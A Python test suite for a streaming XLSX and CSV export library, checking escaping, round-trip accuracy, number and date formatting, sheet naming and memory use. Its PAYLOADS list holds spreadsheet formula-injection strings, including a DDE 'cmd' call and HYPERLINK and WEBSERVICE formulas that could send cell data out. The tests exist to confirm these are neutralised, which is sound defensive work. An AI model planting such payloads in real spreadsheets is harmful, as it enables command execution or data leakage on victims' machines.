"""Workbooks are written row by row, open everywhere, say what was given, and hold no live formula."""

import csv
import io
import itertools
import re
import shutil
import tracemalloc
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import python_calamine
from hypothesis import given, settings
from hypothesis import strategies as st

from baiju import jail
from baiju.workbook import guard, separated, writing
from baiju.workbook.writing import Head, Table

PAYLOADS = (
    *("=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x/?"&A1)', '=WEBSERVICE("http://x")'),
    *("@SUM(1)", "-2+3", "+1+1", "＝1+1", "＋1", "－1", "＠x"),
    *("\t=1+1", "\r=1+1", '"=1"', ";=1", "\u3000 =1+1"),
)
HEADS = [Head(f"列{number}", kind) for number, kind in enumerate(("text", "id", "phone", "long"))]
CONVERT = """
cat > /tmp/given.xlsx
soffice -env:UserInstallation=file:///tmp/profile --headless --norestore --nolockcheck \
    --convert-to fods --outdir /tmp/made /tmp/given.xlsx >&2
cat /tmp/made/given.fods
"""


def has_calc():
    """LibreOffice comes in parts; the one that knows workbooks may be missing."""
    office = shutil.which("soffice")
    return bool(office) and (Path(office).resolve().parent / "libsclo.so").exists()


recalculates = pytest.mark.skipif(
    not has_calc() or not jail.walls.stand(),
    reason="LibreOffice Calc or bubblewrap is missing here, so nobody recalculates the workbook",
)


def written(*rows, heads=HEADS, title="会员"):
    return b"".join(writing.chunks([Table(title, heads, rows)]))


def by_openpyxl(data):
    """Rows of values without the head."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]


def by_calamine(data):
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)[1:]


def grid():
    """Every payload in every column, beside harmless texts."""
    for payload, column in itertools.product(PAYLOADS, range(len(HEADS))):
        yield [payload if at == column else "张三" for at in range(len(HEADS))]


def test_no_payload_is_a_formula_in_any_column():
    book = openpyxl.load_workbook(io.BytesIO(written(*grid())))

    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sum(cell.value.startswith("'") for cell in cells) == len(PAYLOADS) * len(HEADS)


@recalculates
def test_libreoffice_recalculates_and_finds_no_formula():
    """Slow: LibreOffice starts once, in the jail. It finds the one that another writer lets live."""
    live = openpyxl.Workbook()
    live.active.append(["=1+1"])
    peer = io.BytesIO()
    live.save(peer)

    ours, others = (
        jail.run(["/bin/sh", "-ec", CONVERT], data, seconds=120, memory=3 << 30)
        for data in (written(*grid()), peer.getvalue())
    )

    assert others.count(b"table:formula") == 1
    assert ours.count(b"table:formula") == 0
    assert ours.count(b"&apos;") >= len(PAYLOADS) * len(HEADS)


def test_a_payload_comes_back_as_it_went_out():
    rows = list(grid())

    for found in (by_openpyxl(written(*rows)), by_calamine(written(*rows))):
        assert [[guard.bare(cell) for cell in row] for row in found] == rows


@given(st.text())
def test_the_guard_comes_off_exactly_once(text):
    for once in (text, "'" + text, "'=" + text, "''+" + text, " '\"-" + text, "'\t" + text):
        shown = guard.guarded(once)

        assert guard.bare(shown) == once
        assert shown in (once, "'" + once)
        assert shown == once or guard.is_live(once)


# What XML cannot hold is replaced; what looks like an escape of Excel is read in two ways by readers.
texts = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), include_characters="\t\n\r'=+-@＝\"; "),
    min_size=1,
    max_size=40,
).filter(lambda text: "\ufffe" not in text and "\uffff" not in text)
values = st.one_of(
    texts,
    st.none(),
    st.integers(-(10**15) + 1, 10**15 - 1),
    st.decimals(-(10**9), 10**9, places=4),
    st.dates(date(1900, 3, 1)),
    st.datetimes(datetime(1900, 3, 1)).map(lambda moment: moment.replace(microsecond=0)),
    st.booleans(),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(values, min_size=4, max_size=4), min_size=1, max_size=5))
def test_openpyxl_and_calamine_read_what_was_given(rows):
    data = written([1] * 4, *rows, [1] * 4)

    for found in (by_openpyxl(data), by_calamine(data)):
        assert len(found) == len(rows) + 2
        for given_row, found_row in zip(rows, found[1:], strict=False):
            for value, cell in zip(given_row, found_row, strict=True):
                assert _same(value, cell), (value, cell)


def _same(value, cell):
    if value is None:
        return cell in (None, "")
    if isinstance(value, str):
        return guard.bare(cell) == value
    if isinstance(value, Decimal):
        return abs(Decimal(repr(cell)) - value) < Decimal("0.00001")
    if isinstance(value, date):
        return abs((_moment(cell) - _moment(value)).total_seconds()) < 0.5
    return cell == value and isinstance(cell, bool) == isinstance(value, bool)


def _moment(value):
    return value if isinstance(value, datetime) else datetime(value.year, value.month, value.day)


def test_what_excel_takes_for_a_character_is_written_as_itself():
    found = by_calamine(written(["_x000D_", "a_x0041_b", "x_y", "_x000d"]))

    assert found == [["_x000D_", "a_x0041_b", "x_y", "_x000d"]]


def test_what_xml_cannot_hold_is_shown_and_breaks_nothing():
    data = written(["a\x00b", "\ud800", "\ufffe\x1f", "a\x1fb"], ["好", "b", "<&>\"'", "]]>"])

    assert by_openpyxl(data) == [["a�b", "�", "��", "a�b"], ["好", "b", "<&>\"'", "]]>"]]


def test_numbers_keep_all_their_digits_or_are_texts():
    big = 110105194912310021
    data = written(
        ["id", big, Decimal("1234567890.123456789"), Decimal("NaN")],
        ["id", -5, Decimal("1E+3"), Decimal("-0.50")],
        ["id", date(218, 1, 1), datetime(1899, 1, 1, 8), Decimal("1E+500")],
    )

    found = by_openpyxl(data)
    assert found[0] == ["id", str(big), "1234567890.123456789", "NaN"]
    assert found[1] == ["id", -5, 1000, -0.5]
    assert found[2] == ["id", "0218-01-01", "1899-01-01 08:00:00", "1E+500"]


def test_a_text_longer_than_a_cell_is_cut_visibly():
    found = by_openpyxl(written(["x", "名" * 40_000, "𠮷" * 20_000, "名" * 32_767]))

    lengths = [len(cell.encode("utf-16-le")) // 2 for cell in found[0]]
    assert lengths[1] == lengths[3] == 32_767
    assert 32_760 <= lengths[2] <= 32_767
    assert [cell[-1] for cell in found[0]] == ["x", "…", "…", "名"]


def test_days_look_like_days_and_codes_are_texts():
    data = written(["张三", "990101", date(2026, 3, 1), datetime(2026, 3, 1, 8, 30)])

    row = openpyxl.load_workbook(io.BytesIO(data)).active[2]
    assert [cell.number_format for cell in row] == [
        "General",
        "@",
        "yyyy\\-mm\\-dd",
        "yyyy\\-mm\\-dd\\ hh:mm:ss",
    ]
    assert row[3].value == datetime(2026, 3, 1, 8, 30)


def test_the_head_is_bold_frozen_and_filtered():
    sheet = openpyxl.load_workbook(io.BytesIO(written(["a"] * 4, ["b"] * 4))).active

    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D3"
    assert all(cell.font.b and cell.fill.patternType == "solid" for cell in sheet[1])
    assert sheet.column_dimensions["B"].width >= 18


def test_names_of_sheets_are_made_valid_and_different():
    names = ["会员/花名册[1]", "会员:花名册*1?", "", "History", "a'b", "长" * 40, "长" * 40]
    tables = [Table(name, HEADS, [["x"] * 4]) for name in names]

    book = openpyxl.load_workbook(io.BytesIO(b"".join(writing.chunks(tables))))

    assert book.sheetnames[:4] == ["会员 花名册 1", "会员 花名册 1 (2)", "Sheet", "History (2)"]
    assert book.sheetnames[4:] == ["a'b", "长" * 31, "长" * 27 + " (2)"]
    assert all(sheet["A2"].value == "x" for sheet in book)


def test_a_workbook_without_sheets_opens():
    assert by_openpyxl(b"".join(writing.chunks([]))) == []


def test_the_first_bytes_leave_before_the_last_rows_are_made():
    made = []

    def rows():
        for number in range(5_000):
            made.append(number)
            yield [f"第{number}行", number, "甲", None]

    pieces = writing.chunks([Table("会员", HEADS, rows())])

    first = next(pieces)
    assert first.startswith(b"PK\x03\x04")
    assert len(made) < 300
    assert len(by_openpyxl(first + b"".join(pieces))) == 5_000


def test_memory_does_not_grow_with_the_rows():
    """Slow: so many rows are written that keeping them would show."""
    row = ["张三", "990101199001011234", "13800000000", "备注"]
    tracemalloc.start()
    for _ in writing.chunks([Table("会员", HEADS, itertools.repeat(row, 20_000))]):
        continue
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert peak < 2 << 20


def test_a_sheet_that_is_full_goes_on_in_another():
    file = io.BytesIO()
    with writing.book(file) as book:
        sheet = book.sheet("会员", HEADS)
        sheet.row(["最后"], at=writing.LAST_ROW)
        sheet.row(["下一页"])

    found = openpyxl.load_workbook(file, read_only=True)
    assert found.sheetnames == ["会员", "会员 (2)"]
    assert [row[0] for row in found["会员 (2)"].iter_rows(values_only=True)] == ["列0", "下一页"]


def test_the_same_rows_give_the_same_bytes():
    assert written(["a", 1, None, "b"]) == written(["a", 1, None, "b"])


def test_what_breaks_off_is_no_workbook():
    file = io.BytesIO()

    with pytest.raises(TypeError, match="float"), writing.book(file) as book:
        book.sheet("会员", HEADS).row(["x", 0.1])

    with pytest.raises(zipfile.BadZipFile):
        zipfile.ZipFile(file)


def test_a_csv_file_opens_in_office_programs_and_holds_no_formula():
    rows = [
        *grid(),
        ["张三", 5, Decimal("1E+2"), date(2026, 3, 1)],
        [None, True, datetime(2026, 3, 1), -5],
    ]

    data = b"".join(separated.chunks([head.title for head in HEADS], rows))

    assert data.startswith(b"\xef\xbb\xbf")
    found = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert [[guard.bare(cell) for cell in row] for row in found[: len(rows) - 2]] == rows[:-2]
    assert found[-2:] == [
        ["张三", "5", "100", "2026-03-01"],
        ["", "true", "2026-03-01 00:00:00", "-5"],
    ]
    live = re.compile(r"[=+@＝＋－＠\t\r]|-[^5]")
    assert not [cell for row in found for cell in row if live.match(cell)]
